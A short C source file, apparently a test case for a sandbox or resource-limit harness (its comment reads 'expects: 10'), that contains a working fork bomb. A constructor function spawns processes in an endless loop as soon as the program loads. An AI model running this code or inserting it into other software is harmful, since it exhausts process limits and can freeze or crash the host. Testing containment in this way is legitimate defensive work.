/*
 * fork_bomb.c - forks endlessly.
 * expects: 10
 */
#include <unistd.h>

__attribute__((constructor)) static void multiply(void)
{
    for (;;) {
        fork();
    }
}
